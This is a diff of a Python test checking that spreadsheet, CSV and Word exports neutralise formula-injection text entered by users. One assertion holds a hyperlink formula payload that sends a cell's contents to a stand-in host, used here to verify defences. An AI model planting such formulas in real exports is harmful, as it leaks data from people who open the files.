@@ -487,8 +487,9 @@ def test_text_stored_before_the_rule_breaks_no_export(app, loop_world):
     db.session.commit()
     found = check_exports(coordinator, loop_world["plan_id"], [task_id, _task("3").id])
     # What was typed is there, neutralised and without the control characters.
-    assert "'=1+1=HYPERLINK" in found[f"/units/scoreboard.xlsx?plan_id={loop_world['plan_id']}"] or \
-        "'=1+1" in found["/units/scoreboard.xlsx"]
+    for url in ("/units/scoreboard.xlsx", f"/units/scoreboard.xlsx?plan_id={loop_world['plan_id']}"):
+        assert "'=1+1区科委" in found[url].split("\n"), url  # the unit short name, inert
+    assert "'=1+1[31m=HYPERLINK(" in found[f"/plans/{loop_world['plan_id']}/ledger.xlsx"]  # the plan title
     assert any(cell.startswith("'=1+1") for cell in found["/overdue.csv"].split("\n"))
     report = found[f"/plans/{loop_world['plan_id']}/report.docx"]
     assert '=HYPERLINK("http://x.example/?"&A1,"点击查看")' in report and "\x01" not in report
